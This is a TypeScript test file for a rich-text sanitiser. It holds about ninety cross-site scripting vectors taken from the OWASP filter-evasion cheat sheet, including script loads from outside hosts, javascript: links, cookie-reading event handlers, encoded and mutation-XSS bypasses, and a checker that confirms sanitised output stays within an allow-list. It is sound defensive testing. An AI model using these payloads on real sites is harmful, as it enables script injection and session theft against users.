/*
 * The cases both rich-text sanitisers are checked against (the server's in rich-text.owasp.spec.ts, the page's in
 * backend/src/library/page-sanitiser.browser.spec.ts), and the check of their output: every `<` starts a tag of the
 * allow-list, written with only the attributes the policy keeps (double-quoted, no quote inside), every link an
 * http(s) or mailto address and every picture a base64 PNG, JPEG or GIF. Test code only.
 */
import { PICTURE_SRC, RICH_TEXT_ALLOWED_ATTRIBUTES, RICH_TEXT_ALLOWED_TAGS, SAFE_LINK } from './rich-text-policy';

/** Vectors of https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html (and mutation XSS). */
export const OWASP_VECTORS: readonly string[] = [
  '<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>',
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
  '<IMG SRC="javascript:alert(\'XSS\');">',
  "<IMG SRC=javascript:alert('XSS')>",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG SRC=javascript:alert(&quot;XSS&quot;)>',
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<a onmouseover=alert(document.cookie)>xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC= onmouseover="alert(\'xxs\')">',
  '<IMG onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0D;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=http://xss.rocks/xss.js?< B >',
  '<SCRIPT SRC=//xss.rocks/.j>',
  '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
  '<iframe src=http://xss.rocks/scriptlet.html <',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<IMG DYNSRC="javascript:alert(\'XSS\')">',
  '<IMG LOWSRC="javascript:alert(\'XSS\')">',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  '<IMG SRC=\'vbscript:msgbox("XSS")\'>',
  "<svg/onload=alert('XSS')>",
  "<BODY ONLOAD=alert('XSS')>",
  '<BGSOUND SRC="javascript:alert(\'XSS\');">',
  '<BR SIZE="&{alert(\'XSS\')}">',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
  '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">',
  '<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>',
  '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
  '<STYLE TYPE="text/javascript">alert(\'XSS\');</STYLE>',
  '<STYLE>.XSS{background-image:url("javascript:alert(\'XSS\')");}</STYLE><A CLASS=XSS></A>',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  '<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<DIV STYLE="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029\'\\0029">',
  '<DIV STYLE="width: expression(alert(\'XSS\'));">',
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  '<SCRIPT "a=\'>\'" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  '<SCRIPT a=`>` SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  '<SCRIPT a=">\'>" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  '<A HREF="javascript:document.location=\'http://www.google.com/\'">XSS</A>',
  '<A HREF="//www.google.com/">XSS</A>',
  '<A HREF="http://0x42.0x0000066.0x7.0x93/">XSS</A>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="  &#14; javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg><p><style><img src=x onerror=alert(1)></style></p></svg>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<a href="https://example.org/" onclick="alert(1)" style="x" target="_blank">ok</a>',
  '<img src="data:image/png;base64,iVBORw0KGgo=" onerror="alert(1)" alt="x" style="behavior:url(x)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<p>"><script>alert(1)</script></p>',
  '<p title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</p>',
];

const ALLOWED_TAGS = new Set(RICH_TEXT_ALLOWED_TAGS);
const TAG = /^<(\/?)([a-z][a-z0-9]*)((?:\s+[a-z-]+="[^"<>]*")*)\s*(\/?)>/;
const ATTRIBUTE = /\s+([a-z-]+)="([^"]*)"/g;
const unescapeAttribute = (value: string) =>
  value
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&');

/** The reasons the output is not markup the policy allows ([] when it is). */
export function policyBreaches(output: string): string[] {
  const breaches: string[] = [];
  for (let at = output.indexOf('<'); at >= 0; at = output.indexOf('<', at + 1)) {
    const tag = TAG.exec(output.slice(at));
    if (!tag) {
      breaches.push(`a "<" that starts no tag at ${at}`);
      continue;
    }
    const [, closing, name, attributes] = tag;
    if (!ALLOWED_TAGS.has(name)) breaches.push(`tag <${name}>`);
    if (closing && attributes) breaches.push(`attributes on </${name}>`);
    const allowed = RICH_TEXT_ALLOWED_ATTRIBUTES[name] ?? [];
    for (const [, attribute, raw] of attributes.matchAll(ATTRIBUTE)) {
      const value = unescapeAttribute(raw);
      if (!allowed.includes(attribute)) breaches.push(`attribute ${attribute} on <${name}>`);
      if (attribute === 'href' && !SAFE_LINK.test(value)) breaches.push(`link to ${value}`);
      if (attribute === 'src' && !PICTURE_SRC.test(value)) breaches.push(`picture from ${value}`);
    }
  }
  return breaches;
}
